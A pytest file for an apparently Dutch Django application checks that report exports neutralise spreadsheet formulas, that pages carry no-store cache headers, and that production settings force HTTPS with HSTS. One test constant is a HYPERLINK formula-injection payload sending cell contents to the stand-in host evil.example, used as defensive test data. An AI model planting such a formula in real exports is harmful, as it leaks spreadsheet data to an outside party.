"""Hole 15 (the robust parts): report spreadsheets never run a name as a formula, no page with
personal data is kept in a browser's cache, and production settings force HTTPS (HSTS)."""
import csv
import io
import runpy
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from schakel.core.uitvoer import formule_veilig
from schakel.gemeenten.models import Gemeente
from schakel.rapportage.indicatoren import Periode
from schakel.rapportage.uitvoer import exporteer

FORMULE = '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")'
SETTINGS = Path(__file__).resolve().parents[1] / "src" / "schakel" / "settings.py"


def test_formule_veilig():
    for gevaarlijk in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert formule_veilig(gevaarlijk) == "'" + gevaarlijk
    assert formule_veilig("Leiden") == "Leiden" and formule_veilig(-1) == -1 and formule_veilig("") == ""


@pytest.mark.django_db
def test_namen_uit_referentiedata_worden_geen_formule_in_csv_en_xlsx(ref):
    gemeente = Gemeente.objects.get(code="leiden")
    gemeente.naam = FORMULE
    gemeente.save()
    periode = Periode.jaar(2025)

    rijen = list(csv.reader(io.StringIO(exporteer("csv", periode).decode())))
    assert ["meldingen", "per_gemeente", "'" + FORMULE, "0"] in rijen
    assert not any(cel.startswith(("=", "+", "-", "@")) for rij in rijen for cel in rij)

    for gemeente_filter in (None, gemeente):  # the annual report and Leiden's own factsheet
        wb = load_workbook(io.BytesIO(exporteer("xlsx", periode, gemeente_filter)))
        cellen = [c for ws in wb for rij in ws.iter_rows() for c in rij if c.value is not None]
        assert not [c.coordinate for c in cellen if c.data_type == "f" or str(c.value).startswith("=")]
        assert any(str(c.value).startswith("'" + FORMULE) or FORMULE in str(c.value) for c in cellen)


@pytest.mark.django_db
@pytest.mark.parametrize("rol", ["ic", "politie", "fg", "ketenmanager"])
def test_elke_pagina_zegt_no_store(client_for, users, rol):
    client = client_for(users[rol])
    for url in (reverse("start"), reverse("meldingen:lijst")):
        response = client.get(url)
        assert "no-store" in response["Cache-Control"], url


@pytest.mark.django_db
def test_ook_de_inlogpagina_en_de_api_zeggen_no_store(client):
    assert "no-store" in client.get(reverse("inloggen"))["Cache-Control"]
    assert "no-store" in client.get("/api/schema/")["Cache-Control"]


def _instellingen(monkeypatch, **env) -> dict:
    for naam in ("DEBUG", "SECURE_SSL_REDIRECT", "SECURE_HSTS_SECONDS", "SECURE_HSTS_PRELOAD", "SECURE_PROXY_SSL_HEADER", "SECURE_COOKIES"):
        monkeypatch.delenv(naam, raising=False)
    monkeypatch.setenv("SECRET_KEY", "productie-sleutel-voor-de-test")
    for naam, waarde in env.items():
        monkeypatch.setenv(naam, waarde)
    return runpy.run_path(str(SETTINGS))


def test_productie_dwingt_https_af(monkeypatch):
    s = _instellingen(monkeypatch)
    assert s["DEBUG"] is False
    assert s["SECURE_SSL_REDIRECT"] is True
    assert s["SECURE_HSTS_SECONDS"] >= 365 * 24 * 60 * 60
    assert s["SECURE_HSTS_INCLUDE_SUBDOMAINS"] is True and s["SECURE_HSTS_PRELOAD"] is True
    assert s["SESSION_COOKIE_SECURE"] is True and s["CSRF_COOKIE_SECURE"] is True
    # Trusting X-Forwarded-Proto is a choice for a proxy that sets it, never a default.
    assert "SECURE_PROXY_SSL_HEADER" not in s
    achter_proxy = _instellingen(monkeypatch, SECURE_PROXY_SSL_HEADER="1")
    assert achter_proxy["SECURE_PROXY_SSL_HEADER"] == ("HTTP_X_FORWARDED_PROTO", "https")


def test_de_demo_blijft_op_http(monkeypatch):
    s = _instellingen(monkeypatch, DEBUG="1")
    assert s["SECURE_SSL_REDIRECT"] is False and s["SECURE_HSTS_SECONDS"] == 0


@pytest.mark.django_db
def test_http_wordt_doorgestuurd_naar_https_met_hsts(client, settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_HSTS_SECONDS = 31536000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
    response = client.get(reverse("inloggen"))
    assert response.status_code == 301 and response["Location"].startswith("https://")
    veilig = client.get(reverse("inloggen"), secure=True)
    # Preload is on outside the demo: `check --deploy` asks for it (tests/test_productie.py).
    assert veilig["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
